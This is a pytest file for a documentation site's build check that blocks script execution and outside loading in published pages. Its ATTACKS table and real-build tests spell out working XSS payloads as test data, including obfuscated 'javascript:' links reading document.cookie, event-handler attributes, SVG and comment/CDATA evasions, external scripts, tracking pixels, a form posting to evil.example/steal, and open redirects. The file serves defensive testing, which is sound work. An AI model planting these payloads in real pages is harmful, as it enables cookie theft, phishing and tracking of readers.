"""Nothing in a page can run code in a reader's browser or load things from another site: the check on
the BUILT HTML (macros/publish/check_safety.py), where every way of writing a thing in Markdown has become
plain elements and attributes.

Most forms are tested on a small built tree: each page's Markdown is turned into HTML by
Python-Markdown with the extensions of the real mkdocs.yml (as the engine does) and put into a page
shaped like the theme's (its scripts outside the content area). One real build shows the step stops
`make build` with the editor's message, and the real site passes.
"""

from __future__ import annotations

import re
from pathlib import Path

import markdown
import pytest

from macros.data.page_sources import read_pages
from macros.project import Project
from macros.render.link import link
from macros.data.yamlfiles import read_config
from macros.publish.check_safety import check_site, redirect_problems
from tests.helpers import LINK, make_site, run_build

ROOT = Path(__file__).resolve().parent.parent
SITE_URL = "https://guide.example.org/"
BUNDLE = "assets/javascripts/bundle.0123abcd.min.js"
SITE_JS = "assets/site.0123456789.js"

# A page shaped like Material's: the theme's scripts (a bundle, an inline one, a JSON block) outside the
# content area, where editors' Markdown lands.
SHELL = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>A page</title>
<link rel="canonical" href="{site_url}{address}">
<script src="{up}{site_js}"></script>
<script>document.documentElement.classList.add("js")</script>
</head><body><div class="md-content" data-md-component="content">
<article class="md-content__inner md-typeset">
{content}
</article></div>
<script id="__config" type="application/json">{{"base": "."}}</script>
<script src="{up}{bundle}"></script>
</body></html>
"""


def markdown_to_html(text: str, site) -> str:
    """A page's Markdown (front matter out) as the engine turns it into HTML, with the real mkdocs.yml's
    extensions; {{ link('id') }} is rendered by the site's own macro."""
    exts, configs = [], {}
    for ext in read_config(ROOT)["markdown_extensions"]:
        name, config = next(iter(ext.items())) if isinstance(ext, dict) else (ext, None)
        exts.append(name)
        configs[name] = config or {}
    body = text.split("\n---\n", 1)[1]
    body = re.sub(r"\{\{ link\('([\w-]+)'\) \}\}", lambda m: link(site, m.group(1)), body)
    return markdown.markdown(body, extensions=exts, extension_configs=configs)


def small_site(tmp_path: Path, pages: dict[str, str], redirects: dict | None = None,
               files: dict[str, str] | None = None) -> tuple[Path, Project]:
    """A project (docs/ with ``pages``, name -> Markdown body, and ``files``, path -> text) and its built tree."""
    data = make_site(tmp_path, links=[LINK])
    docs = tmp_path / "docs"
    for name, body in pages.items():
        (docs / name).parent.mkdir(parents=True, exist_ok=True)
        (docs / name).write_text(f"---\ntitle: {name}\n---\n{body}\n", encoding="utf-8")
    config = {"site_url": SITE_URL, "plugins": ["search", {"redirects": {"redirect_maps": redirects or {}}}]}
    project = Project(root=tmp_path, config=config, docs_dir=docs, pages=read_pages(docs), data=data)
    site = tmp_path / "site"
    for rel in (BUNDLE, SITE_JS):
        (site / rel).parent.mkdir(parents=True, exist_ok=True)
        (site / rel).write_text("/* the site's own */\n", encoding="utf-8")
    for src, page in project.pages.items():
        out = site / page.address.lstrip("/") / "index.html"
        out.parent.mkdir(parents=True, exist_ok=True)
        up = "../" * (page.address.count("/") - 1)
        out.write_text(SHELL.format(site_url=SITE_URL, address=page.address.lstrip("/"), up=up, site_js=SITE_JS,
                                    bundle=BUNDLE, content=markdown_to_html(page.path.read_text(encoding="utf-8"),
                                                                            data)), encoding="utf-8")
    for rel, text in (files or {}).items():  # files under docs/ that the engine copies as they are
        for where in (docs / rel, site / rel):
            where.parent.mkdir(parents=True, exist_ok=True)
            where.write_text(text, encoding="utf-8")
    return site, project


def line_of(tmp_path: Path, page: str, text: str) -> int:
    """Where ``text`` is in the page's source, counting from 1 as editors do."""
    lines = (tmp_path / "docs" / page).read_text(encoding="utf-8").splitlines()
    return next(n for n, line in enumerate(lines, start=1) if text in line)


# Each way an editor could write something that runs or loads from elsewhere: the page's Markdown,
# the text on the offending line, and what the editor's message says.
ATTACKS = {
    "reference-style javascript: link": (
        "Read [the guidance][r] first.\n\n[r]: javascript:alert(document.cookie)", "[r]:", "'javascript:' address"),
    "entity-encoded javascript: link": (
        'See <a href="&#106;avascript:alert(1)">this</a>.', "&#106;avascript", "'javascript:' address"),
    "entity-encoded without semicolons": (
        'See <a href="&#x6A&#x61vascript:alert(1)">this</a>.', "vascript", "'javascript:' address"),
    "tab inside the scheme": (
        'See <a href="java&#9;script:alert(1)">this</a>.', "script:alert", "'javascript:' address"),
    "vbscript: link": ("[x](vbscript:msgbox(1))", "vbscript", "'vbscript:' address"),
    "data: address": ("![chart](data:image/svg+xml;base64,PHN2Zy8+)", "data:image", "'data:' address"),
    "onclick through attr_list": (
        'A paragraph.\n{ onclick="alert(1)" }', "onclick", "'onclick=' runs a script"),
    "onmouseover on a heading through attr_list": (
        '## Heading { onmouseover="alert(1)" }', "onmouseover", "'onmouseover=' runs a script"),
    "script of type text/ecmascript": (
        '<script type="text/ecmascript">alert(1)</script>', "text/ecmascript", "<script> is never allowed"),
    "script loading a file under docs/": (
        '<script src="../assets/evil.js"></script>', "evil.js", "<script> is never allowed"),
    "external script": (
        '<script src="https://cdn.evil.example/x.js"></script>', "cdn.evil.example", "<script> is never allowed"),
    "external image": (
        '![tracker](https://evil.example/pixel.png)', "evil.example/pixel", "loaded by <img src=…>"),
    "external image in raw HTML": (
        '<img src="https://evil.example/pixel.png" alt="">', "evil.example/pixel", "loaded by <img src=…>"),
    "//host link": ("[a site](//evil.example/login)", "//evil.example", "written without https:"),
    "reference-style link to another site": (
        "[the form][f] is here.\n\n[f]: https://evil.example/form", "[f]:", "typed into the page"),
    "typed address of a links.yml entry, not through link()": (
        f"[home]({LINK['url']})", LINK["url"], "typed into the page"),
    "iframe": ('<iframe src="../about/"></iframe>', "<iframe", "an <iframe> tag is never allowed"),
    "srcdoc": ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "srcdoc", "'srcdoc='"),
    "SVG with onload": ('<svg onload="alert(1)"></svg>', "onload", "'onload=' runs a script"),
    "SVG link with xlink:href": (
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "xlink:href", "'javascript:' address"),
    "javascript: in a data attribute a script could follow": (
        '<span data-href="javascript:alert(1)">x</span>', "data-href", "'javascript:' address"),
    "SVG animation setting an address": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>', "animate",
        "an <animate> tag is never allowed"),
    "form posting elsewhere": (
        '<form action="https://evil.example/steal"><button>Go</button></form>', "evil.example/steal",
        "sent what readers type"),
    "button with formaction": (
        '<button formaction="javascript:alert(1)">Go</button>', "formaction", "'javascript:' address"),
    "leaving the content area first": (
        '</article></div><script src="../assets/evil.js"></script>', "</article>", "<script> is never allowed"),
    "markup hidden from the parser in a comment": (
        '<!--><script src="../assets/evil.js"></script>-->', "<!-->", "HTML comment with markup"),
    "markup hidden in a CDATA section": (
        '<![CDATA[ > <script src="../assets/evil.js"></script> ]]>', "CDATA", "CDATA"),
}


@pytest.mark.parametrize("form", ATTACKS)
def test_each_form_is_refused_with_the_page_and_line(tmp_path, form):
    text, on_line, says = ATTACKS[form]
    site, project = small_site(tmp_path, {"index.md": "# Home", "tools/page.md": f"# A page\n\n{text}"},
                               files={"assets/evil.js": "alert(1)\n"})
    problems = check_site(site, project)
    assert problems, f"{form}: published"
    message = "\n".join(problems)
    assert says in message, message
    assert f"docs/tools/page.md, line {line_of(tmp_path, 'tools/page.md', on_line)}:" in message, message
    assert "docs/index.md" not in message, "only the page that carries it is named"


def test_the_same_page_without_the_attack_passes_and_link_is_allowed(tmp_path):
    body = ("# A page\n\nSee {{ link('home') }} and [bruising](../bruising.md), ring <a href=\"tel:999\">999</a> or "
            "[write](mailto:someone@example.org).\n\n```html\n<script>alert(1)</script>\n```\n\n"
            "`<img src=x onerror=alert(1)>` is text, and so is &lt;script&gt;. "
            '<abbr title="JavaScript: a programming language">JS</abbr> is a title, not an address.')
    site, project = small_site(tmp_path, {"index.md": "# Home", "tools/page.md": body})
    built = (site / "tools" / "page" / "index.html").read_text(encoding="utf-8")
    assert f'data-link-id="home" href="{LINK["url"]}"' in built and "&lt;script&gt;" in built
    assert check_site(site, project) == []


def test_only_the_sites_own_scripts_may_load_outside_the_content_area(tmp_path):
    site, project = small_site(tmp_path, {"index.md": "# Home"}, files={"assets/evil.js": "alert(1)\n"})
    page = site / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace(SITE_JS, "assets/evil.js"), encoding="utf-8")
    message = "\n".join(check_site(site, project))
    assert "docs/index.md" in message and "assets/evil.js" in message and "not one of the site's own" in message


def test_a_file_under_docs_cannot_take_the_place_of_the_themes_script(tmp_path):
    site, project = small_site(tmp_path, {"index.md": "# Home"}, files={BUNDLE: "alert(1)\n"})
    message = "\n".join(check_site(site, project))
    assert BUNDLE in message and "not one of the site's own" in message


@pytest.mark.parametrize("name,text", [
    ("evil.html", "<html><body><script>alert(1)</script></body></html>"),
    ("assets/evil.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("assets/feed.xml", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
])
def test_a_markup_file_copied_from_docs_is_content_all_through(tmp_path, name, text):
    site, project = small_site(tmp_path, {"index.md": "# Home"}, files={name: text})
    message = "\n".join(check_site(site, project))
    assert f"docs/{name}, line 1: a <script> is never allowed" in message, message


def test_a_redirect_to_another_site_is_refused_naming_the_line_of_mkdocs_yml(tmp_path):
    _, project = small_site(tmp_path, {"index.md": "# Home"},
                            redirects={"old.md": "index.md", "login.md": "https://evil.example/login"})
    (tmp_path / "mkdocs.yml").write_text(
        "plugins:\n  - redirects:\n      redirect_maps:\n        old.md: index.md\n"
        "        login.md: https://evil.example/login\n", encoding="utf-8")
    problems = redirect_problems(project)
    assert len(problems) == 1, problems
    assert problems[0].startswith("mkdocs.yml, line 5: the redirect 'login.md: https://evil.example/login'")
    assert "open redirect" in problems[0]


def test_the_real_site_passes_and_the_themes_inline_scripts_are_outside_the_content_area(built_site, project):
    assert check_site(built_site, project) == []
    home = (built_site / "index.html").read_text(encoding="utf-8")
    before, article = home.split('<article class="md-content__inner md-typeset">', 1)
    assert re.search(r"<script>[^<]", before + article.split("</article>", 1)[1]), \
        "the theme has inline scripts: the test shows they are allowed outside the content area"
    assert "<script" not in article.split("</article>", 1)[0]


# ---------------------------------------------------------------------------- real builds


def test_a_real_build_stops_at_the_built_html_check_with_the_editors_message(tmp_path, root):
    from tests.conftest import copy_project

    project = copy_project(tmp_path / "project")
    page = project / "docs" / "fathers.md"
    hostile = ("\n\nRead [the leaflet][leaflet] first.\n{ onclick=\"alert(1)\" }\n\n"
               "[leaflet]: javascript:alert(document.cookie)\n\n"
               "And [the form](//evil.example/form).\n")
    page.write_text(page.read_text(encoding="utf-8") + hostile, encoding="utf-8")
    result = run_build(project)
    assert result.returncode == 1, result.stdout + result.stderr
    lines = page.read_text(encoding="utf-8").splitlines()
    at = {text: next(n for n, line in enumerate(lines, start=1) if text in line)
          for text in ("[leaflet]:", "onclick", "//evil.example")}
    err = result.stderr
    assert "BUILD FAILED" in err and "check_safety" in err and "Traceback" not in err, err
    assert f"docs/fathers.md, line {at['[leaflet]:']}: a 'javascript:' address" in err, err
    assert f"docs/fathers.md, line {at['onclick']}: the attribute 'onclick=' runs a script" in err, err
    assert f"docs/fathers.md, line {at['//evil.example']}: the address '//evil.example/form'" in err, err
    assert not (project / "site").exists(), "nothing is published"
    assert not list(project.glob(".site-build-*"))


def test_a_real_build_refuses_a_redirect_to_another_site_before_the_engine(tmp_path):
    from tests.conftest import copy_project

    project = copy_project(tmp_path / "project")
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    assert text.count("redirect_maps: {}") == 1
    config.write_text(text.replace("redirect_maps: {}", "redirect_maps:\n        login.md: https://evil.example/"),
                      encoding="utf-8")
    line = config.read_text(encoding="utf-8").splitlines().index("        login.md: https://evil.example/") + 1
    result = run_build(project)
    assert result.returncode == 1
    assert f"mkdocs.yml, line {line}: the redirect 'login.md: https://evil.example/'" in result.stderr, result.stderr
    assert "mkdocs build" not in result.stderr and "Traceback" not in result.stderr
    assert not (project / "site").exists()


def test_a_script_from_the_hosts_root_is_the_sites_own_only_under_the_site_address(tmp_path):
    """A GitHub Pages project site lives at /<repository>/: its 404 page loads its scripts from there;
    the same host's root belongs to other sites."""
    import dataclasses

    site, project = small_site(tmp_path, {"index.md": "# Home"})
    project = dataclasses.replace(project, config={**project.config, "site_url": "https://owner.github.io/guide/"})
    page = site / "index.html"
    text = page.read_text(encoding="utf-8").replace(SITE_URL, "https://owner.github.io/guide/")
    page.write_text(text.replace(f'src="{BUNDLE}"', f'src="/guide/{BUNDLE}"'), encoding="utf-8")
    assert check_site(site, project) == []
    page.write_text(text.replace(f'src="{BUNDLE}"', f'src="/other/{BUNDLE}"'), encoding="utf-8")
    assert "from outside the site (/guide/)" in "\n".join(check_site(site, project))


def test_a_page_without_the_themes_content_area_is_content_all_through(tmp_path):
    """A page built with another template (no <article class="md-content__inner">): nothing in it is
    taken for the theme's own, so its inline script is refused."""
    site, project = small_site(tmp_path, {"index.md": "# Home"})
    page = site / "index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("md-content__inner", "other"), encoding="utf-8")
    assert "docs/index.md" in "\n".join(check_site(site, project))
